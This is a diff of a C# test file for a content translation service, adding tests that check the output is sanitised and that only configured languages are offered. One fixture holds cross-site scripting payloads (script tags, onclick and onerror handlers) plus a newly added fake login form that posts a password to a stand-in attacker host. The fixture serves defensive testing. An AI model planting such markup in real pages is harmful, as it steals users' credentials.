@@ -100,7 +100,8 @@ public sealed class TranslatorContractTests(LocalTranslator translator) : IClass
         await using var scope = services.CreateAsyncScope();
         var port = scope.ServiceProvider.GetRequiredService<ContentTranslator>();
         var html = $"<p>welcome {Guid.NewGuid():N}</p>";
-        translator.AnswerHtml = "<p onclick=\"steal()\">bienvenue</p><script>steal()</script><img src=x onerror=steal()>";
+        translator.AnswerHtml = "<p onclick=\"steal()\">bienvenue</p><script>steal()</script><img src=x onerror=steal()>"
+            + "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"><button>OK</button></form>";
         try
         {
             var first = await port.TranslateAsync(html, "fr", Cancel);
@@ -173,14 +174,24 @@ public sealed class TranslatorContractTests(LocalTranslator translator) : IClass
     }
 
     [Theory]
-    [InlineData("fr", true)]
-    [InlineData("pt-BR", true)]
-    [InlineData("zh-Hans", true)]
-    [InlineData("FR", false)]
-    [InlineData("fr&to=de", false)]
-    [InlineData("", false)]
-    [InlineData("français", false)]
-    public void ALanguage_IsAShortTag(string tag, bool valid) => Assert.Equal(valid, ContentTranslator.IsLanguage(tag));
+    [InlineData(null, "FR", "fr")]
+    [InlineData(null, "pt", null)]
+    [InlineData(null, "fr\n", null)]
+    [InlineData("pt,zh-Hans", "zh-hans", "zh-Hans")]
+    [InlineData("pt,zh-Hans", "fr", null)]
+    public async Task OnlyTheOfferedLanguages_AreAskedFor_InAnyCase(string? configured, string asked, string? offered)
+    {
+        var settings = new Dictionary<string, string?>(translator.LibreTranslateSettings);
+        foreach (var (language, index) in (configured?.Split(',') ?? []).Select((l, i) => (l, i)))
+        {
+            settings[$"Translation:Languages:{index}"] = language;
+        }
+
+        await using var services = Services(settings);
+        await using var scope = services.CreateAsyncScope();
+
+        Assert.Equal(offered, scope.ServiceProvider.GetRequiredService<ContentTranslator>().Offered(asked));
+    }
 
     private static TranslationOptions Options(TranslationProvider provider, Uri url, string? key, string? region = null) =>
         new() { Provider = provider, Url = url, ApiKey = key, Region = region };
